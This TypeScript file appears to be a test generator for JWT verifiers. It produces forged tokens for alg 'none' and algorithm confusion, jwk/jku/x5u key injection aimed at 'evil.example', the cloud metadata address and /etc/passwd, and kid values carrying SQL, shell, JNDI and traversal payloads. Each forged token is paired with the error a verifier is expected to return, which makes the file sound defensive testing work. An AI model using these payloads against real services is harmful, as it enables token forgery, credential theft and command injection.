import { claimsOf, type Draft, headerOf, seal, type Target, withHeader } from './target.ts'

const NONE = ['none', 'None', 'NONE', 'nOnE', 'noNE', 'none ', ' none', 'none\0', 'n\u043ene']

/** Names of other algorithms, and spellings of the good ones that are none. */
const OTHER_ALGS = [
  ...['HS256', 'HS384', 'HS512', 'RS1', 'RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512'],
  ...['ES256', 'ES256K', 'ES384', 'ES512', 'EdDSA', 'Ed25519', 'Ed448', 'Ed25519ph', 'ML-DSA-65'],
  ...['dir', 'A128KW', 'RSA1_5', 'ECDH-ES', '', ' ', '*', '.*', '__proto__', 'constructor', 'toString'],
]

const spellings = (alg: string): readonly string[] => [
  alg.toUpperCase() === alg ? alg.toLowerCase() : alg.toUpperCase(),
  ...[` ${alg}`, `${alg} `, `${alg}\0`, `${alg},none`, `${alg}\u200b`],
]

/** Values that are no text. */
const NO_TEXTS = [null, true, false, 0, 1, [], {}]

const CRITICAL: readonly object[] = [
  ...[[], ['exp'], ['b64'], ['alg'], [''], ['b64', 'b64'], ['http://example.com/UNDEFINED']].map((crit) => ({
    crit,
  })),
  ...['exp', '', null, 0, false, {}].map((crit) => ({ crit })),
  ...[true, false, null, 0, 'false'].map((b64) => ({ b64 })),
  { crit: ['b64'], b64: false },
  { crit: ['exp'], exp: 0 },
]

/** Types of other tokens, and spellings of the good one that are none. */
const OTHER_TYPES = [
  ...[
    'JOSE',
    'JWE',
    'dpop+jwt',
    'txntoken+jwt',
    'req+jwt',
    'secevent+jwt',
    'logout+jwt',
    'kb+jwt',
    'id_token',
  ],
  ...['', 'JWT ', ' JWT', 'JWT\0', 'application/', 'text/JWT', 'application/application/jwt'],
]

/** Classes 1, 4, 5: `alg` as the attacker likes it. Each has a good signature, so that only its name is wrong. */
export function algAttacks(target: Target): readonly Draft[] {
  const other = [...new Set([...OTHER_ALGS, ...target.algs.flatMap(spellings)])]
  const unsigned = (alg: string): Promise<string> =>
    withHeader(target, { alg }, () => Promise.resolve(new Uint8Array()))
  return [
    ...NONE.flatMap((alg): readonly Draft[] => [
      [1, 'unsupported_alg', `alg ${JSON.stringify(alg)} without a signature`, unsigned(alg)],
      [1, 'unsupported_alg', `alg ${JSON.stringify(alg)} with one`, withHeader(target, { alg })],
    ]),
    ...other
      .filter((alg) => !target.algs.includes(alg))
      .map((alg): Draft => [5, 'unsupported_alg', `alg ${JSON.stringify(alg)}`, withHeader(target, { alg })]),
    ...[...NO_TEXTS, [target.alg], { alg: target.alg }].map((alg): Draft => [
      4,
      'malformed',
      `alg ${JSON.stringify(alg)}`,
      withHeader(target, { alg }),
    ]),
    [4, 'malformed', 'no alg', withHeader(target, { alg: undefined })],
    [
      4,
      'malformed',
      'alg among the claims alone',
      seal(target, headerOf(target, { alg: undefined }), claimsOf(target, { alg: target.alg })),
    ],
    [4, 'malformed', 'alg in capitals', withHeader(target, { alg: undefined, ALG: target.alg })],
  ]
}

/** Classes 7 and 8: a header that brings its key along, or says where one lies. The signature is by that key. */
export function keyInHeaderAttacks(target: Target): readonly Draft[] {
  const { forge, forgedJwk } = target
  const url = 'https://evil.example/keys'
  const forged = (attackClass: number, name: string, changes: object): Draft => [
    attackClass,
    'bad_signature',
    name,
    withHeader(target, changes, forge),
  ]
  return [
    ...(forgedJwk
      ? [
          forged(7, 'jwk', { jwk: forgedJwk }),
          forged(7, 'jwk that claims the good kid', { jwk: { ...forgedJwk, kid: target.kid } }),
          forged(7, 'a JWK Set in place of jwk', { jwk: { keys: [forgedJwk] } }),
          forged(7, 'jwk as text', { jwk: JSON.stringify(forgedJwk) }),
          forged(7, 'jwks', { jwks: { keys: [forgedJwk] } }),
          forged(7, 'jwk with an alg of its own', { jwk: { ...forgedJwk, alg: target.alg } }),
        ]
      : [forged(7, 'jwk that is a secret', { jwk: { kty: 'oct', k: 'A'.repeat(86) } })]),
    forged(8, 'jku', { jku: url }),
    forged(8, 'jku to this machine', { jku: 'http://127.0.0.1/' }),
    forged(8, 'jku to the address where clouds keep credentials', { jku: 'http://169.254.169.254/latest/' }),
    forged(8, 'jku to a file', { jku: 'file:///etc/passwd' }),
    forged(8, 'x5u', { x5u: url }),
    forged(8, 'x5c', { x5c: ['MIIB'] }),
    forged(8, 'x5t and x5t#S256', { x5t: 'AAAA', 'x5t#S256': 'AAAA' }),
    forged(8, 'iss of the attacker in the header', { iss: 'https://evil.example' }),
  ]
}

/** Class 9: `kid` is what the attacker looks a key up with. */
export function kidAttacks(target: Target): readonly Draft[] {
  const { kid, forge } = target
  const badTypes = [...NO_TEXTS, [kid ?? 'key-1'], '', 'k'.repeat(257), 'k'.repeat(4000)]
  const odd = [
    ...[
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'prototype',
      'length',
      '0',
      'undefined',
      'null',
    ],
    ...[
      '../../dev/null',
      '/dev/null',
      '..\\..\\x',
      'file:///etc/passwd',
      'https://evil.example/key',
      '%2e%2e%2f',
    ],
    ...[
      "' OR '1'='1",
      "x' UNION SELECT 'AAAA",
      '| id',
      '$(id)',
      '`id`',
      '${jndi:ldap://evil.example/a}',
      '{{7*7}}',
    ],
    ...['*', '\0', '\n', ' ', '😀', '\ud800', 'k'.repeat(256)],
    ...(kid === undefined
      ? []
      : [`${kid} `, ` ${kid}`, `${kid}\0`, `${kid}\n`, kid.toUpperCase(), kid.slice(0, -1), `${kid}${kid}`]),
  ].filter((one) => one !== kid)
  return [
    ...badTypes.map((bad): Draft => [
      9,
      'malformed',
      `kid ${JSON.stringify(bad).slice(0, 40)}`,
      withHeader(target, { kid: bad }),
    ]),
    ...odd.map((bad): Draft =>
      kid === undefined
        ? // Headers of shared secrets need no kid, and one that is there finds nothing.
          [9, 'bad_signature', `kid ${JSON.stringify(bad)}`, withHeader(target, { kid: bad }, forge)]
        : [9, 'unknown_kid', `kid ${JSON.stringify(bad)}`, withHeader(target, { kid: bad })],
    ),
    ...(kid === undefined
      ? []
      : ([
          [9, 'missing_kid', 'no kid', withHeader(target, { kid: undefined })],
          [9, 'missing_kid', 'kid in capitals', withHeader(target, { kid: undefined, KID: kid })],
          [
            9,
            'missing_kid',
            'kid among the claims alone',
            seal(target, headerOf(target, { kid: undefined }), claimsOf(target, { kid })),
          ],
        ] satisfies Draft[])),
  ]
}

/** Class 17: extensions that must be understood. None is. */
export function criticalAttacks(target: Target): readonly Draft[] {
  return CRITICAL.map((changes): Draft => [
    17,
    'unsupported_crit',
    JSON.stringify(changes),
    withHeader(target, changes),
  ])
}

/** Class 27: a token of another kind from the same issuer. */
export function typeAttacks(target: Target): readonly Draft[] {
  return [
    ...OTHER_TYPES.map((typ): Draft => [
      27,
      'wrong_type',
      `typ ${JSON.stringify(typ)}`,
      withHeader(target, { typ }),
    ]),
    ...[...NO_TEXTS, ['JWT']].map((typ): Draft => [
      27,
      'malformed',
      `typ ${JSON.stringify(typ)}`,
      withHeader(target, { typ }),
    ]),
  ]
}

/** Class 27, where `JWT` alone counts, spelled so. */
export function internalTypeAttacks(target: Target): readonly Draft[] {
  return ['at+jwt', 'jwt', 'Jwt', 'application/jwt', 'application/at+jwt'].map((typ): Draft => [
    27,
    'wrong_type',
    `typ ${JSON.stringify(typ)}`,
    withHeader(target, { typ }),
  ])
}
